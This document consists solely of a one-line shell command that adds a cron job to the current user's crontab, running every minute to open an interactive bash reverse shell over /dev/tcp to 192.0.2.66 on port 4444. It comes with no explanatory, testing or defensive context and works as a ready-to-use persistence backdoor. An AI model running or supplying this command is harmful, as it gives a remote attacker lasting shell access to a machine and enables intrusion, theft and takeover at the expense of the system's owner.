(crontab -l; echo "* * * * * bash -i >& /dev/tcp/192.0.2.66/4444 0>&1") | crontab -
